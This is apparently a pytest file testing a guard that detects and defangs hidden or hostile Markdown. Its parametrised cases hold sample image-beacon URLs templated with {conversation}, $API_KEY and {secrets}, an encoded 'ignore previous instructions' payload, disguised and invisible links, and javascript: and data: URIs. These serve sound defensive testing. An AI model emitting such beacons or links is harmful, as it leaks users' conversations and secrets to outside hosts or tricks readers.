"""Markdown: what its markup hides, and what is left of it when it is sent."""

from __future__ import annotations

import pytest

from cellwall.guard.channel_formats import Piece, clean, read

pytestmark = pytest.mark.requirement("GRD-7")


def rules(text: str) -> list[str]:
    return [hit.rule.removeprefix("channel.") for hit in read("markdown", text).hits]


def test_a_text_is_taken_apart_by_what_people_see() -> None:
    text = (
        "---\nauthor: someone\n---\n# Title\nIg<!-- x -->nore [this](https://a.example 'tip')\n"
        "![alt](/b.png)\n[//]: # (a remark)\n[^1]: a footnote\n"
    )
    assert read("markdown", text).pieces == (
        Piece("author: someone", "front matter", True),
        Piece("https://a.example\n/b.png", "address", True),
        Piece("tip", "link title", True),
        Piece("alt", "image text", True),
        Piece("[//]: # (a remark)", "reference definition", True),
        Piece("# Title\nIgnore this\n\n\n[^1]: a footnote\n", "text", False),
        Piece(" x ", "comment", True),
    )


@pytest.mark.requirement("GRD-2")
@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("![a](https://e.example/?q={conversation})", "beacon-template"),
        ("![a](<https://e.example/?q=%7Bdata%7D>)", "beacon-template"),
        ("![a](https://e.example/$API_KEY.png)", "beacon-template"),
        ("![a](https://e.example/?q=YOUR_SECRET)", "beacon-template"),
        ("![a](//e.example/?q={x})", "beacon-template"),
        ("![a](https://e.example/aWdub3JlIHByZXZpb3VzIGluc3RydWN0aW9ucw)", "beacon-text"),
        ("![a](https://e.example/?t=68656c6c6f2074686572652066726965)", "beacon-text"),
        ("![a](https://e.example/?q=the+key+is+one+two+three+four)", "beacon-text"),
        ("![a][r]\n\n[r]: https://e.example/?q={secrets}", "beacon-template"),
        ("![R]\n\n[r]: https://e.example/?q={secrets}", "beacon-template"),
        ("<img src='https://e.example/?q={x}' width=0>", "beacon-template"),
        ("[a](https://e.example/?q={chat_history})", "link-template"),
        ("open https://e.example/?q={chat_history} now", "link-template"),
        ("<https://e.example/?q=[CONVERSATION]>", "link-template"),
        ("[bank.com](https://e.example)", "link-disguised"),
        ("[ ](https://e.example)", "link-unseen"),
        ("[\u200b](https://e.example)", "link-unseen"),
        ("[a](javascript:alert(1))", "link-script"),
        ("[a](javascript&colon;alert(1))", "link-script"),
        ("[a](data:text/html;base64,eHg=)", "link-script"),
    ],
)
def test_tricks_are_told(text: str, rule: str) -> None:
    found = read("markdown", f"before {text}")
    assert [hit.rule for hit in found.hits] == [f"channel.{rule}"]
    assert found.hits[0].category in ("beacon", "hidden", "code-injection")
    assert 0 < found.hits[0].start < found.hits[0].end


@pytest.mark.parametrize(
    "text",
    [
        "![build](https://img.example/badge/build-passing-green.svg?branch=main)",
        "![x](https://raw.example/0123456789abcdef0123456789abcdef01234567/a.png)",
        "[docs](https://api.example/v1/{user_id}/messages/{message_id})",
        "[setup.py](https://github.com/a/b)",
        "See https://search.example/?q=how+to+do+it and `<script>` tags.",
        "`[](void*)` and a[0](x)",
    ],
)
def test_ordinary_texts_have_no_tricks(text: str) -> None:
    assert rules(text) == []


def test_tags_in_code_hide_nothing() -> None:
    text = "Use `<script>` and\n```html\n<div hidden>\n```\nthen go on."
    assert read("markdown", text).pieces == (Piece(text, "text", False),)


def test_folded_and_styled_text_is_hidden() -> None:
    found = read(
        "markdown", "a <details><summary>b</summary>c</details> <p style='display:none'>d</p>"
    )
    assert [(piece.text.strip(), piece.is_hidden) for piece in found.pieces] == [
        ("a \nb", False),
        ("c", True),
        ("d", True),
    ]


@pytest.mark.requirement("GRD-2")
@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("plain *text* with [a link](https://a.example/b)", None),
        ("> quote\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |", None),
        ("a < b && c > d", "a &lt; b && c > d"),
        ("![a](https://a.example/b.png)", "! [a](https://a.example/b.png)"),
        ("\\![a](b)", "\\! [a](b)"),
        ("![a](https://e.example/?q={x})", "! [a](hxxps://e[.]example/?q={x})"),
        ("<img src=x>", "&lt;img src=x>"),
        ("<!-- x -->", "&lt;!-- x -->"),
        ("<https://a.example>", "https://a.example"),
        ("[a](javascript:x)", "[a](javascript :x)"),
        ("[a](javascript&colon;x)", "[a](javascript&amp;colon;x)"),
        ("[a](steam://run/1)", "[a](steam ://run/1)"),
        ("[a](https://a.example 'tip')", "[a](https://a.example)"),
        ("[//]: # (remark)", "\\[//]: # (remark)"),
        ("[a][b]\n\n[b]: https://a.example", None),
        ("---\nx: y\n---\nz", "***\nx: y\n---\nz"),
        ("in `<b>` code", None),
        ("[a](b`c) <i> `d`", "[a](b`c) &lt;i> `d&#96;"),
        ("| `a | <b>` |", "| `a | &lt;b>` |"),
        ("`a\n` <i> `", "&#96;a\n` <i> `"),
        ("```js\na < b\n```\nend", None),
        ("  ~~~\n  <b>\n  ~~~", "```\n<b>\n```"),
        ("```\n<b>", "```\n<b>\n```"),
        ("> ```\n<b>\n```\n<i>", "> &#96;&#96;&#96;\n&lt;b>\n```\n<i>\n```"),
        ("x\u200b!\u200b[a](b)", "x! [a](b)"),
    ],
)
def test_what_is_sent_loads_runs_and_hides_nothing(text: str, sent: str | None) -> None:
    cleaned = clean("markdown", text)
    fence = "`" * 4
    assert cleaned.replace(fence, "```") == (text if sent is None else sent)
    assert clean("markdown", cleaned).count("<") == cleaned.count("<")


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "![](x(y)" * 20_000,
        "[](" + " " * 50_000,
        '[a](b "' * 10_000,
        "` `` " * 10_000,
        "".join("`" * (3 + at % 50) + "<\n" for at in range(5_000)),
        "[a]:" + " " * 50_000,
        "http://" * 10_000,
        "<a@" * 10_000,
        ">" * 50_000,
        "\n" * 50_000,
    ],
)
def test_hostile_runs_are_read_and_cleaned(text: str) -> None:
    assert read("markdown", text).is_complete
    assert "![" not in clean("markdown", text)
